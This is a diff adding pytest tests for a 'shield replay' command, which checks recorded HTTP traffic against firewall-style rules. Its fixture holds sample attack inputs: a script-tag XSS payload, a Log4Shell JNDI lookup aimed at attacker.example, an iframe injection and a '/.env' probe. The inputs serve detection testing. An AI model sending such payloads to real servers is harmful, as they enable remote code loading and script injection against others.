@@ -1,0 +1,87 @@
+"""``soryoku shield replay`` end to end through ``soryoku.cli.app.main``."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from soryoku.cli.app import main
+
+RECORDS = [
+    {"method": "GET", "path": "/search", "query": {"q": "shoes"}, "client_ip": "198.51.100.1"},
+    {"method": "GET", "url": "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "client_ip": "198.51.100.2"},
+    {"method": "GET", "path": "/", "headers": {"user-agent": "${jndi:ldap://attacker.example/a}"}},
+    {"method": "POST", "path": "/api/cms", "body": {"html": "<iframe src=x>"}},
+    {"method": "GET", "path": "/.env", "client_ip": "198.51.100.3"},
+]
+
+
+def _invoke(args: list[str]) -> int:
+    try:
+        main(args)
+    except SystemExit as done:
+        return int(done.code or 0)
+    raise AssertionError("main() returned without exiting")
+
+
+@pytest.fixture
+def traffic(tmp_path: Path) -> Path:
+    path = tmp_path / "traffic.jsonl"
+    path.write_text("\n".join(json.dumps(r) for r in RECORDS) + "\n\n")
+    return path
+
+
+def test_replay_prints_what_would_be_blocked(traffic: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert _invoke(["shield", "replay", str(traffic)]) == 0
+    out = capsys.readouterr().out
+    assert "4 of 5 requests would be blocked" in out
+    for rule in ("xss:script_tag", "known_bad_inputs:log4shell", "known_bad_inputs:scanner_probe_path"):
+        assert rule in out
+
+
+def test_replay_jsonl_and_fail_on_block(traffic: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert _invoke(["shield", "replay", str(traffic), "--format", "jsonl", "--fail-on-block"]) == 1
+    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert [(e["line"], e["rule_id"]) for e in events] == [
+        (2, "xss:script_tag"),
+        (3, "known_bad_inputs:log4shell"),
+        (4, "xss:script_tag"),
+        (5, "known_bad_inputs:scanner_probe_path"),
+    ]
+    assert {e["action"] for e in events} == {"block"}
+
+
+def test_replay_honours_a_config_with_exclusions(
+    traffic: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = tmp_path / "shield.yaml"
+    config.write_text(
+        "mode: monitor\nroutes:\n  - glob: /api/*\n    exclude_params: [html]\n"
+        "families:\n  known_bad_inputs: off\n"
+    )
+    assert _invoke(["shield", "replay", str(traffic), "--config", str(config), "--fail-on-block"]) == 1
+    out = capsys.readouterr().out
+    assert "1 of 5 requests would be blocked (xss:script_tag 1)" in out
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [("{not json}\n", "traffic.jsonl:1"), ("[1, 2]\n", "expected a JSON object")],
+)
+def test_replay_bad_input_exits_2(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, message: str
+) -> None:
+    path = tmp_path / "traffic.jsonl"
+    path.write_text(content)
+    assert _invoke(["shield", "replay", str(path)]) == 2
+    assert message in capsys.readouterr().err
+
+
+def test_replay_bad_config_exits_2(traffic: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    config = tmp_path / "shield.json"
+    config.write_text('{"mode": "deny"}')
+    assert _invoke(["shield", "replay", str(traffic), "--config", str(config)]) == 2
+    assert "mode" in capsys.readouterr().err
+    assert _invoke(["shield", "replay", str(traffic), "--config", str(tmp_path / "missing.yaml")]) == 2
